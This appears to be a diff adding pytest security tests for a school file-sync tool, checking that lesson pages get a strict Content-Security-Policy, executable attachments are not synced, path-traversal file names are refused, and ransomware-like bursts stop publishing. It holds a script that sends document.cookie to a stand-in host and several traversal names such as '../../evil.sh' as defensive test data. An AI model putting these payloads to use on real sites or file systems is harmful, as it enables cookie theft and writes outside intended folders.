@@ -1,0 +1,83 @@
+"""What a hostile or infected lesson may try (docs/threat-model.md)."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+
+from protocol.errors import RelaisError
+from protocol.manifest import ManifestEntry, decode_manifest, encode_manifest
+from sync_agent.coursework_rules import wanted_files
+from sync_agent.watch_brake import Change, is_burst, is_scrambled
+from tests.harness.attack import attack
+from tests.harness.classroom import Classroom, classroom
+from tests.harness.portal import portal
+
+HOSTILE = {"index.html": b"<script>fetch('https://collect.example/?' + document.cookie)</script>"}
+
+
+@pytest_asyncio.fixture
+async def room(tmp_path: Path) -> AsyncIterator[Classroom]:
+    async with classroom(tmp_path) as made:
+        yield made
+
+
+@attack(
+    "hostile lesson HTML",
+    off={
+        "sync_agent.portal.lessons._LOAD_FROM_HERE": "default-src *",
+        "sync_agent.portal.lessons._ALLOWED": "allow-top-navigation",
+    },
+)
+async def test_a_lesson_loads_from_nowhere_else_and_sends_nothing_anywhere(room: Classroom) -> None:
+    teacher, pc = await room.teacher(), await room.machine()
+    item = (await room.publish(teacher, HOSTILE)).item.hex()
+    for device in (teacher, pc):
+        await device.session.sync()
+    async with portal(pc.agent) as surfer:
+        answer = await surfer.lesson(item, "/index.html", Cookie="relais=secret")
+    policy = dict(part.strip().partition(" ")[::2] for part in answer.headers["Content-Security-Policy"].split(";"))
+    assert "*" not in policy["default-src"]
+    assert "allow-top-navigation" not in policy["sandbox"]
+    assert "Set-Cookie" not in answer.headers
+
+
+@attack(
+    "malware spread by a teacher's infected laptop", off={"sync_agent.coursework_rules.DENIED_EXTENSIONS": frozenset()}
+)
+async def test_what_runs_at_a_double_click_is_not_copied_into_anybodys_folder() -> None:
+    names = ["exercice.odt", "Lisez-moi.PDF.exe", "dictée.docm", "photos.lnk", "jeu.JS"]
+    copied = wanted_files([ManifestEntry(name, 1, bytes(32)) for name in sorted(names)])
+    assert "exercice.odt" in copied
+    assert not copied.keys() & set(names[1:])
+
+
+HOSTILE_NAMES = ("../../evil.sh", "/etc/cron.d/evil", "notes/../../x", "aux.html", "cours.html:flux", "plan. ")
+
+
+@attack(
+    "mangling file names",
+    off={
+        "protocol.manifest.check_portable": lambda _paths: [],
+        "protocol.manifest.portability_problems": lambda _paths, **_: iter(()),
+    },
+)
+async def test_a_list_of_files_that_leads_out_of_its_folder_is_refused_by_who_writes_and_who_reads_it() -> None:
+    with pytest.MonkeyPatch.context() as hostile_publisher:
+        hostile_publisher.setattr("protocol.manifest.check_portable", lambda _paths: [])
+        lists = [encode_manifest([ManifestEntry(name, 1, bytes(32))]) for name in HOSTILE_NAMES]
+    for name, data in zip(HOSTILE_NAMES, lists, strict=True):
+        with pytest.raises(RelaisError):
+            encode_manifest([ManifestEntry(name, 1, bytes(32))])
+        with pytest.raises(RelaisError):
+            decode_manifest(data)
+
+
+@attack("ransomware in a watched folder", off={"sync_agent.watch_brake.THRESHOLDS": ()})
+async def test_a_burst_of_files_that_turn_to_noise_stops_publishing() -> None:
+    before, after = b"PK\x03\x04 un devoir" + bytes(2000), bytes(range(256)) * 16
+    changes = [Change.SCRAMBLED if is_scrambled(before, after) else Change.REWRITTEN for _ in range(25)]
+    assert is_burst(changes, published_files=400)
